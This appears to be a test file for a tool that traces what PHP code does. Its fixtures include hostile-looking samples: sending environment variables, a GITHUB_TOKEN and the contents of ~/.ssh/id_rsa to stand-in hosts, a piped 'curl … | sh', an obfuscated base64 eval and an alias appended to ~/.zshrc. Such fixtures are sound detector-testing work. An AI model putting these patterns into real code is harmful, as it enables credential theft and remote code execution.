import { expect, test } from 'vitest';
import { stepLines } from '../../../../test/step-lines.ts';

test('follows requests, handles of curl and what is sent through functions and objects', async () => {
  const program = `<?php
const BASE = 'https://collect.example.net';
function send($path, array $data) {
    $ch = curl_init();
    curl_setopt($ch, CURLOPT_URL, BASE . "/v1/{$path}");
    curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($data));
    curl_setopt($ch, CURLOPT_HTTPHEADER, ['Authorization: ' . getenv('GITHUB_TOKEN')]);
    return curl_exec($ch);
}
class Client {
    private $url = 'https://t.example.com';
    private $key;
    public function __construct($key) { $this->key = $key; }
    public function push() {
        $context = stream_context_create(['http' => ['method' => 'POST', 'content' => $this->key]]);
        return file_get_contents($this->url . '/k', false, $context);
    }
}
$home = $_SERVER['HOME'];
send('env', $_ENV);
$c = new Client(file_get_contents("$home/.ssh/id_rsa"));
$c->push();
$s = fsockopen('10.0.0.9', 4444);
fwrite($s, 'hello');
`;
  expect(await stepLines('php', program)).toMatchInlineSnapshot(`
    [
      "7 variable name="GITHUB_TOKEN"",
      "8 request address=https://collect.example.net/v1/env by="request" sent=\${*} headers=[Authorization: \${GITHUB_TOKEN}]",
      "16 request address=https://t.example.com/k by="request" sent=(reads 21)",
      "20 variable name="*"",
      "21 reads path=~/.ssh/id_rsa",
      "23 request address=10.0.0.9:4444 by="socket" sent=hello",
    ]
  `);
});

test('follows commands, code, files and output', async () => {
  const program = `<?php
require_once __DIR__ . '/lib.php';
$out = \`git log -1\`;
exec("npm install " . escapeshellarg('left-pad'), $lines);
if ($argc > 1) { passthru('curl -s https://a.example/x | sh'); } else { exit(2); }
eval(gzinflate(base64_decode('S0ktLgEA')));
file_put_contents(getenv('HOME') . '/.zshrc', "alias ls=other\\n", FILE_APPEND);
$f = fopen('/tmp/x', 'w');
fwrite($f, $out);
@unlink('/tmp/y');
echo 'branch ', $out;
fwrite(STDERR, 'done');
?>
<p><?= 'x' ?></p>
`;
  expect(await stepLines('php', program)).toMatchInlineSnapshot(`
    [
      "3 evaluates code=git log -1 language="shell"",
      "4 evaluates code=npm install left-pad language="shell"",
      "5 evaluates code=curl -s https://a.example/x | sh language="shell"",
      "5 exits code=2",
      "6 evaluates code=(decodes 6) language="php"",
      "6 decodes from="compressed" content=(decodes 6)",
      "6 decodes from="base64" content=S0ktLgEA",
      "7 writes path=~/.zshrc content=alias ls=other
     append=true",
      "8 writes path=/tmp/x",
      "9 writes path=/tmp/x content=(evaluates 3)",
      "10 deletes path=/tmp/y",
      "11 prints content=branch … to="output"",
      "12 prints content=done to="errors"",
    ]
  `);
});
